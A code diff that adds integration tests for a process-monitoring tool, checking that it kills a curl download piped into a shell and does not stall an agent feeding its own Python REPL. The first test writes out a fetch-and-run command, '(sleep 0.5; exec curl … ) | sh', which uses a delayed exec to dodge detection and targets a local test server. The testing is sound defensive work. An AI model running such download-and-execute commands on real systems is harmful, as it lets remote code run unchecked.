@@ -138,6 +138,46 @@ struct EnforceIntegrationTests {
         #expect(!opens.isEmpty && opens.allSatisfy { $0["held"] as? Bool == false }, "the agent's own open is not held: \(opens)")
     }
 
+    @Test("a network client that execs late into the pipe is still the writer: (sleep 0.5; exec curl …) | sh",
+          arguments: [["--enforce"], []])
+    func lateNetworkWriter(_ mode: [String]) throws {
+        let h = try WardenHarness()
+        try FileManager.default.createDirectory(atPath: h.path("www"), withIntermediateDirectories: true)
+        try h.write("www/i.sh", "echo pwned >> \(h.path("MARKERS"))\n")
+        let server = try LoopbackServer(httpRoot: h.path("www"))
+        // The subshell first runs sleep (a harmless writer of the same pipe), then becomes curl.
+        try h.write("tool.sh", "(sleep 0.5; exec curl -fsS http://127.0.0.1:\(server.port)/i.sh) | sh\n")
+        let result = try h.run(["sh", "-c", "sh tool.sh; echo tool=$?"], extra: mode)
+        let alert = try #require(killAlerts(result, rule: "download-piped-to-interpreter").first, "\(result.events.ofType("alert").map { $0.string("rule") ?? "" })")
+        if mode.isEmpty {
+            #expect(FileManager.default.fileExists(atPath: h.path("MARKERS")), "audit mode lets it run")
+            #expect(outcome(alert).outcome == "would kill (audit mode)")
+        } else {
+            #expect(!FileManager.default.fileExists(atPath: h.path("MARKERS")), "the payload never ran")
+            #expect(outcome(alert).mechanism == "hold-kill", "\(String(describing: outcome(alert)))")
+            #expect(!String(decoding: result.stdout, as: UTF8.self).contains("tool=0"))
+        }
+    }
+
+    @Test("an agent feeding a REPL it started through a pipe is not stalled (enforce)")
+    func agentFedInterpreterIsNotStalled() throws {
+        let h = try WardenHarness()
+        try h.write("agent.py", """
+            import subprocess, time
+            repl = subprocess.Popen(["/usr/bin/python3"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+            repl.stdin.write("print(6 * 7)\\n"); repl.stdin.flush()
+            time.sleep(0.3)
+            repl.stdin.close()
+            print("repl says", repl.stdout.read().strip())
+            """)
+        let start = Date()
+        let result = try h.run(["/usr/bin/python3", "agent.py"], extra: ["--enforce"])
+        let seconds = Date().timeIntervalSince(start)
+        #expect(String(decoding: result.stdout, as: UTF8.self).contains("repl says 42"), "\(result.stderr)")
+        #expect(seconds < 10, "held only until its writer was known to be the agent: \(seconds) s")
+        #expect(result.stderr.contains(" 0 killed"), "\(result.stderr)")
+    }
+
     /// The state letter of /proc/PID/stat ("T" when stopped), or nil when the process is gone.
     private func state(of pid: Int32) -> String? {
         guard let stat = try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8),
